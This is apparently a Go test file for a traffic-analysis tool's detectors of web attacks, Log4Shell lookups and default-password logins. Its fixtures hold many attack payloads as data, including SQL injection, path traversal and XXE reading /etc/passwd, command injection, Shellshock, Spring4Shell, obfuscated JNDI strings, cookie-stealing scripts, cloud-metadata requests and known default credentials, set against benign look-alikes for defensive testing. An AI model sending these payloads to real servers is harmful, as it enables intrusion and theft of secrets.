package all_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/pcapsule/pcapsule/samples/traffic"
)

// TestWebAttacks has requests that attack an application, with answers that show the result or not, and requests that only
// look alike.
func TestWebAttacks(t *testing.T) {
	const passwd = "root:x:0:0:root:/root:/bin/bash\n"
	form := func(body string) [2]string {
		return [2]string{"Content-Type: application/x-www-form-urlencoded\r\n", body}
	}
	list := []struct {
		name, first string
		sent        [2]string // headers and body
		status      string
		answer      string
		want        string
	}{
		{"SQL", "GET /item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--%20 HTTP/1.1", [2]string{}, "500 x", "You have an error in your SQL syntax near", "high: 10.0.0.1 sent SQL in the URL of 1 request to 10.0.0.2; 1 of the responses show"},
		{"SQL that is always true", "GET /item?id=1%27+or+%271%27=%271 HTTP/1.1", [2]string{}, "200 OK", "hello", "medium: 10.0.0.1 sent SQL in the URL of 1 request to 10.0.0.2; the server answered 1 of them with success, which shows no result"},
		{"SQL in a form", "POST /login HTTP/1.1", form("user=admin%27--+&password=x"), "403 x", "", "low: 10.0.0.1 sent SQL in the body of 1 request to 10.0.0.2; none was answered with success"},
		{"a path", "GET /../../../../etc/passwd HTTP/1.1", [2]string{}, "200 OK", passwd, "high: 10.0.0.1 sent a path out of the published folder in the URL"},
		{"a path encoded twice", "GET /a?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a path out of the published folder in the URL"},
		{"a command", "GET /ping?host=127.0.0.1%3Bid HTTP/1.1", [2]string{}, "200 OK", "uid=33(www-data) gid=33(www-data)", "high: 10.0.0.1 sent a command in the URL"},
		{"a shell of bash", "GET /cgi-bin/status HTTP/1.1", [2]string{"User-Agent: () { :;}; /bin/id\r\n", ""}, "500 x", "", "low: 10.0.0.1 sent a function definition of bash (Shellshock) in the header"},
		{"Spring", "POST /x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1", [2]string{}, "200 OK", "", "medium: 10.0.0.1 sent a class loader of Spring (Spring4Shell) in the URL"},
		{"an entity", "POST /xml HTTP/1.1", [2]string{"Content-Type: text/xml\r\n", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`}, "200 OK", passwd, "high: 10.0.0.1 sent an external entity of XML in the body"},
		{"a script", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", [2]string{}, "200 OK", "none", "medium: 10.0.0.1 sent a script for browsers (cross-site scripting) in the URL of 1 request"},
		{"a script in an event", "GET /search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a script for browsers (cross-site scripting) in the URL"},
		{"a script in a link", "GET /go?to=javascript:alert(document.cookie) HTTP/1.1", [2]string{}, "200 OK", "", "medium: 10.0.0.1 sent a script for browsers (cross-site scripting) in the URL"},
		{"a text about scripts", "GET /search?q=javascript+onerror+img+%3C+5+script HTTP/1.1", [2]string{}, "200 OK", "", ""},
		{"a command for OMI", "POST /wsman HTTP/1.1", [2]string{"Content-Type: application/soap+xml\r\n", "<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command></p:ExecuteShellCommand_INPUT></s:Body>"}, "200 OK", "uid=0(root) gid=0(root)", "high: 10.0.0.1 sent a command for OMI without credentials (OMIGOD) in the body"},
		{"a command for OMI of an administrator", "POST /wsman HTTP/1.1", [2]string{"Authorization: Basic YTpi\r\nContent-Type: application/soap+xml\r\n", "<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command></p:ExecuteShellCommand_INPUT></s:Body>"}, "200 OK", "uid=0(root) gid=0(root)", ""},
		{"a template", "GET /hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D HTTP/1.1", [2]string{}, "200 OK", "uid=33(www-data) gid=33(www-data)", "high: 10.0.0.1 sent an expression of a template in the URL"},
		{"SpEL", "POST /actuator/gateway/routes/x HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"value":"#{T(java.lang.Runtime).getRuntime().exec(\"id\")}"}`}, "201 x", "", "medium: 10.0.0.1 sent calls of Java's runtime in the body"},
		{"Drupal", "POST /user/register HTTP/1.1", form("form_id=x&mail[%23post_render][]=exec&mail[%23markup]=id"), "200 OK", "", "medium: 10.0.0.1 sent render arrays of Drupal (Drupalgeddon 2) in the body"},
		{"Node.js", "POST / HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"_prefix":"process.mainModule.require('child_process').execSync('id')"}`}, "500 x", "", "low: 10.0.0.1 sent code of Node.js in the body"},
		{"an object of .NET", "POST /page.aspx HTTP/1.1", form("__VIEWSTATE=%2FwEylBEAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwC"), "500 x", "", "low: 10.0.0.1 sent a serialized object of .NET in the body"},
		{"an object of Java", "GET /?s=rO0ABXNyABdqYXZh HTTP/1.1", [2]string{}, "500 x", "", "low: 10.0.0.1 sent a serialized object of Java in the URL"},
		{"an object of PHP", "GET /?s=O:8:%22Evil_Job%22:1:%7Bs:1:%22a%22;i:1;%7D HTTP/1.1", [2]string{}, "500 x", "", "low: 10.0.0.1 sent a serialized object of PHP in the URL"},
		{"Fastjson", "POST /api HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}}`}, "200 OK", "", "medium: 10.0.0.1 sent a class of Java to load from JSON (Fastjson) in the body"},
		{"MongoDB", "POST /login HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"user":{"$ne":null},"password":{"$ne":null}}`}, "200 OK", "", "medium: 10.0.0.1 sent operators of MongoDB in the body"},
		{"metadata of a cloud", "GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1", [2]string{}, "200 OK", `{"SecretAccessKey" : "x"}`, "high: 10.0.0.1 sent the address of a cloud's metadata, or a scheme that the server is to use in the URL"},
		{"inclusion", "GET /index.php?page=http://evil.example/x.txt%3f HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a file of another server to include in the URL"},
		{"a line of a header", "GET /%0d%0aSet-Cookie:%20a=1 HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a line of a header (response splitting) in the URL"},
		{"Citrix", "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1", [2]string{}, "404 x", "", "low: 10.0.0.1 sent a path to scripts of Citrix in the URL"},
		{"ProxyShell", "GET /autodiscover/autodiscover.json?@a.example/owa/?&Email=autodiscover/autodiscover.json%3F@a.example HTTP/1.1", [2]string{}, "302 x", "", "low: 10.0.0.1 sent a path of Exchange by way of Autodiscover (ProxyShell) in the URL"},
		{"ProxyLogon", "POST /ecp/y.js HTTP/1.1", [2]string{"Cookie: X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522;\r\n", ""}, "241 x", "", "medium: 10.0.0.1 sent a server of Exchange behind the front end (ProxyLogon) in the header"},
		{"a path in a cookie", "POST /login.esp HTTP/1.1", [2]string{"Cookie: SESSID=/../../../opt/x\r\n", ""}, "200 OK", "", "medium: 10.0.0.1 sent a path out of the published folder in the header"},
		{"secrets", "GET /.env HTTP/1.1", [2]string{}, "200 OK", "APP_NAME=a\nDB_PASSWORD=b\n", "high: 10.0.0.1 sent the name of a file with secrets in the URL"},
		{"parts of a form", "POST /up HTTP/1.1", [2]string{"Content-Type: multipart/form-data; boundary=b\r\n", "--b\r\nContent-Disposition: form-data; name=\"f\"\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b--\r\n"}, "200 OK", "", ""},
		{"a query of numbers", "POST /find HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"age":{"$gt":18},"price":"$ne"}`}, "200 OK", "", ""},
		{"a template of Mustache", "POST /mail HTTP/1.1", [2]string{"Content-Type: application/json\r\n", `{"text":"Hello {{name}}, you paid {{ total }} to {{config_name}}"}`}, "200 OK", "", ""},
		{"a link of Git", "GET /shop.git/info/refs?service=git-upload-pack HTTP/1.1", [2]string{}, "200 OK", "", ""},
		{"an address to return to", "GET /login?next=https://shop.example/a.txt&x=1 HTTP/1.1", [2]string{}, "200 OK", "", ""},
		{"a name", "GET /people?name=O%27Brien&id=5;v=1 HTTP/1.1", [2]string{}, "200 OK", "uid=1", ""},
		{"a search", "GET /search?q=union+and+select+committee&cat=books HTTP/1.1", [2]string{}, "200 OK", passwd, ""},
		{"a query that a console sends", "POST /query HTTP/1.1", [2]string{"Content-Type: text/plain\r\n", "SELECT 1 UNION ALL SELECT 2"}, "200 OK", "1", ""},
		{"a file that is about users", "GET /etc/docs?id=1&cat=2 HTTP/1.1", [2]string{}, "200 OK", passwd, ""},
	}
	client := func(i int) string { return fmt.Sprintf("10.0.1.%d", 1+i) }
	var w traffic.Capture
	for i, tt := range list {
		request := traffic.HTTP(tt.first, strings.TrimSuffix("Host: a\r\n"+tt.sent[0], "\r\n"), tt.sent[1])
		w.Exchange(time.Duration(i)*ms, ms, tt.name, client(i), "10.0.0.2:80", request, traffic.HTTP("HTTP/1.1 "+tt.status, "Content-Type: text/plain", tt.answer))
		w.Close(time.Second, tt.name)
	}
	found := of(t, openTraffic(t, &w), "web-attack")
	for i, tt := range list {
		t.Run(tt.name, func(t *testing.T) {
			var got, want []string
			for _, f := range found {
				if strings.Contains(f, client(i)+" sent") {
					got = append(got, strings.Replace(f, client(i), "10.0.0.1", 1))
				}
			}
			if tt.want != "" {
				want = []string{tt.want}
			}
			hold(t, got, want...)
		})
	}
}

// TestLookupsOfJNDI has lookups in several fields, with and without a connection to what they name.
func TestLookupsOfJNDI(t *testing.T) {
	const sent = "10.0.0.1 sent a lookup of JNDI for ldap://10.0.0.66:1389 to 10.0.0.2 in 1 request (Log4Shell, CVE-2021-44228)"
	get := func(headers string) string {
		return traffic.HTTP("GET / HTTP/1.1", strings.TrimSuffix("Host: a\r\n"+headers, "\r\n"), "")
	}
	for _, tt := range []struct{ name, request, back, want string }{
		{"an attempt", get("X-Api: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "", "medium: " + sent + "; no connection to 10.0.0.66 was recorded within 5 minutes"},
		{"a callback", get("User-Agent: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "10.0.0.66:1389", "high: " + sent + "; afterwards 10.0.0.2 connected to 10.0.0.66 at port 1389"},
		{"another port", get("User-Agent: ${jndi:ldap://10.0.0.66:1389/a}\r\n"), "10.0.0.66:80", "medium: " + sent},
		{"hidden", traffic.HTTP("GET /?x=%24%7b%24%7blower:J%7d%24%7b::-n%7ddi:l%24%7benv:NONE:-d%7dap://10.0.0.66:1389/a%7d HTTP/1.1", "Host: a", ""), "10.0.0.66:1389", "high: " + sent},
		{"in a form", traffic.HTTP("POST /login HTTP/1.1", "Host: a\r\nContent-Type: application/x-www-form-urlencoded", "password=%24%7Bjndi%3Aldap%3A%2F%2F10.0.0.66%3A1389%2Fa%7D"), "10.0.0.66:1389", "high: " + sent},
		{"a template", get("X-Template: ${name} ${jndi} costs ${price:-5}\r\n"), "10.0.0.66:1389", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var w traffic.Capture
			w.Exchange(0, ms, "a", "10.0.0.1", "10.0.0.2:80", tt.request, traffic.HTTP("HTTP/1.1 200 OK", "", ""))
			if tt.back != "" {
				w.Attempt(10*ms, "10.0.0.2", tt.back, false)
			}
			var want []string
			if tt.want != "" {
				want = []string{tt.want}
			}
			got := of(t, openTraffic(t, &w), "jndi-lookup")
			hold(t, got, want...)
			if tt.want != "" && strings.Contains(tt.want, "medium") && strings.Contains(got[0], "afterwards") {
				t.Errorf("a callback: %s", got[0])
			}
		})
	}
}

// TestDefaultLogins has logins with passwords that protect nothing, and with others.
func TestDefaultLogins(t *testing.T) {
	ftp := func(user, password, answer string) func(w *traffic.Capture) {
		return func(w *traffic.Capture) {
			w.Exchange(0, ms, "f", "10.0.0.1", "10.0.0.2:21", "", "220 ready\r\n")
			w.Exchange(10*ms, ms, "f", "10.0.0.1", "10.0.0.2:21", "USER "+user+"\r\n", "331 password\r\n")
			w.Exchange(20*ms, ms, "f", "10.0.0.1", "10.0.0.2:21", "PASS "+password+"\r\n", answer+"\r\n")
			w.Close(time.Second, "f")
		}
	}
	basic := func(credentials, status string) func(w *traffic.Capture) {
		return func(w *traffic.Capture) {
			w.Exchange(0, ms, "h", "10.0.0.1", "10.0.0.2:80", traffic.HTTP("GET / HTTP/1.1", "Host: a\r\nAuthorization: Basic "+base64.StdEncoding.EncodeToString([]byte(credentials)), ""), traffic.HTTP("HTTP/1.1 "+status, "", ""))
		}
	}
	for _, tt := range []struct {
		name string
		make func(w *traffic.Capture)
		want string
	}{
		{"FTP", ftp("admin", "admin", "230 in"), "high: 10.0.0.1 sent a password that protects nothing to 10.0.0.2 in 1 login of ftp; 1 succeeded the password that the client sent is the name of the user"},
		{"FTP, refused", ftp("root", "xc3511", "530 no"), "low: 10.0.0.1 sent a password that protects nothing to 10.0.0.2 in 1 login of ftp; none succeeded"},
		{"anonymous FTP", ftp("anonymous", "anonymous", "230 in"), ""},
		{"FTP with a password", ftp("ann", "Fj2!kdlq", "230 in"), ""},
		{"HTTP", basic("admin:password", "200 OK"), "high: 10.0.0.1 sent a password that protects nothing to 10.0.0.2 in 1 request of HTTP; 1 succeeded"},
		{"HTTP, refused", basic("admin:", "401 x"), "low: 10.0.0.1 sent a password that protects nothing to 10.0.0.2 in 1 request of HTTP; none succeeded"},
		{"HTTP with a password", basic("ann:Fj2!kdlq", "200 OK"), ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var w traffic.Capture
			tt.make(&w)
			holdOne(t, &w, "default-login", tt.want)
		})
	}
}
